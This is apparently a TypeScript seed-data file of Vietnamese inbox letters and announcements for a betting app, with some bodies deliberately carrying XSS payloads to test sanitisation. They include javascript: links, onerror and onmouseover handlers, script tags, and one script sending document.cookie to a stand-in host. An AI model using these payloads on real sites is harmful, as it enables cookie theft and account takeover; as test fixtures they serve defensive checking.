// Texts of the seeded letters and announcements. Some carry HTML with scripts, event handlers and javascript:
// links on purpose: the backend passes what operators type, and the app must sanitise it before rendering.
import type { LetterType } from '@/shared/api/generated/main/model';

export interface LetterText {
  id: number;
  letType: LetterType;
  title: string;
  body: string;
  read: boolean;
  /** Hours before the seed's reference time. */
  hoursAgo: number;
}

/** lotus888's inbox: one unread letter per tab (3 unread in total), the rest read. */
export const LOTUS_LETTERS: LetterText[] = [
  {
    id: 9001,
    letType: 0,
    title: 'Chúc mừng thăng cấp VIP',
    body: 'Chúc mừng bạn đã lên VIP 2! Phần thưởng thăng cấp đã được cộng vào ví.',
    read: false,
    hoursAgo: 2,
  },
  {
    id: 9002,
    letType: 1,
    title: 'Vòng quay may mắn',
    body: '<p>Vòng quay may mắn đã bắt đầu, đăng nhập mỗi ngày để nhận lượt quay miễn phí.</p><a href="javascript:alert(document.cookie)">Tham gia ngay</a>',
    read: false,
    hoursAgo: 5,
  },
  {
    id: 9003,
    letType: 2,
    title: 'Lịch thi đấu cuối tuần',
    body: '<h3>Lịch thi đấu cuối tuần</h3><table><tr><td>Hà Nội FC</td><td>20:00</td><td>Hải Phòng</td></tr></table><script>fetch("https://evil.example/steal?c="+document.cookie)</script>',
    read: false,
    hoursAgo: 9,
  },
  {
    id: 9004,
    letType: 0,
    title: 'Thông báo bảo trì',
    body: 'Hệ thống sẽ bảo trì từ 02:00 đến 04:00. Xin cảm ơn quý khách đã thông cảm.',
    read: true,
    hoursAgo: 30,
  },
  {
    id: 9005,
    letType: 0,
    title: 'Cảnh báo lừa đảo',
    body: '<p><b>Không</b> chia sẻ mã xác minh cho bất kỳ ai.</p><img src="x" onerror="alert(\'xss\')"><script>alert("xss")</script>',
    read: true,
    hoursAgo: 54,
  },
  {
    id: 9006,
    letType: 1,
    title: 'Hoàn trả cuối tuần',
    body: '<p>Hoàn trả 1,2% cho mọi cược thể thao cuối tuần.</p><div onmouseover="alert(1)">Xem chi tiết</div>',
    read: true,
    hoursAgo: 76,
  },
  {
    id: 9007,
    letType: 2,
    title: 'Kết quả V.League vòng 12',
    body: 'Hà Nội FC 2 - 1 Hải Phòng. Công An Hà Nội 0 - 0 Thể Công.',
    read: true,
    hoursAgo: 100,
  },
];

/** Every other seeded member has read the welcome letter. */
export const WELCOME_LETTER = {
  title: 'Chào mừng đến với Lotus',
  body: 'Cảm ơn bạn đã tham gia Lotus. Chúc bạn có những giây phút giải trí vui vẻ!',
};

/** Letters a member registered in this session finds in the inbox (both unread). */
export const NEW_MEMBER_LETTERS: Array<{ letType: LetterType; title: string; body: string }> = [
  { letType: 0, title: WELCOME_LETTER.title, body: WELCOME_LETTER.body },
  {
    letType: 1,
    title: 'Quà chào mừng thành viên mới',
    body: '<p>Nhận ngay gói quà chào mừng trong mục Khuyến mãi.</p><img src="x" onerror="alert(1)">',
  },
];

export interface AnnouncementText {
  id: number;
  annType: 0 | 1;
  sortNum: number;
  title: string;
  body: string;
  minVipLevel: number;
  /** Display window in hours around the reference time (negative = past). */
  fromHours: number;
  toHours: number;
}

export const ANNOUNCEMENTS: AnnouncementText[] = [
  {
    id: 501,
    annType: 0,
    sortNum: 1,
    title: 'Thông báo bảo trì hệ thống',
    body: 'Hệ thống sẽ bảo trì từ 02:00 đến 04:00 ngày mai. Xin cảm ơn quý khách đã thông cảm.',
    minVipLevel: 0,
    fromHours: -48,
    toHours: 48,
  },
  {
    id: 505,
    annType: 0,
    sortNum: 5,
    title: 'Ra mắt cược xiên',
    body: '<p>Cược xiên tối đa <b>10</b> lựa chọn đã có mặt.</p><img src="x" onerror="alert(1)"><script>alert("xss")</script>',
    minVipLevel: 0,
    fromHours: -24,
    toHours: 24 * 14,
  },
  {
    id: 506,
    annType: 0,
    sortNum: 8,
    title: 'Ưu đãi riêng cho VIP 3',
    body: 'Thành viên VIP 3 trở lên được hoàn trả thêm 0,2%.',
    minVipLevel: 3,
    fromHours: -24,
    toHours: 24 * 7,
  },
  {
    id: 507,
    annType: 0,
    sortNum: 9,
    title: 'Khuyến mãi đã kết thúc',
    body: 'Chương trình này đã kết thúc.',
    minVipLevel: 0,
    fromHours: -24 * 30,
    toHours: -24,
  },
  {
    id: 502,
    annType: 1,
    sortNum: 20,
    title: 'Ưu đãi nạp tiền ngân hàng',
    body: 'Nạp tiền qua ngân hàng nội địa được cộng thêm 1% mỗi lần nạp.',
    minVipLevel: 0,
    fromHours: -24 * 20,
    toHours: 24 * 10,
  },
  {
    id: 503,
    annType: 1,
    sortNum: 30,
    title: 'Nạp USDT nhanh',
    body: '<p>Nạp USDT qua mạng TRC20 được xử lý trong 3 phút.</p><a href="javascript:alert(1)">Hướng dẫn</a>',
    minVipLevel: 0,
    fromHours: -24 * 5,
    toHours: 24 * 25,
  },
  {
    id: 504,
    annType: 1,
    sortNum: 10,
    title: 'Ví điện tử EBPay',
    body: 'Nạp tiền bằng EBPay không mất phí giao dịch.',
    minVipLevel: 0,
    fromHours: -24 * 3,
    toHours: 24 * 30,
  },
];
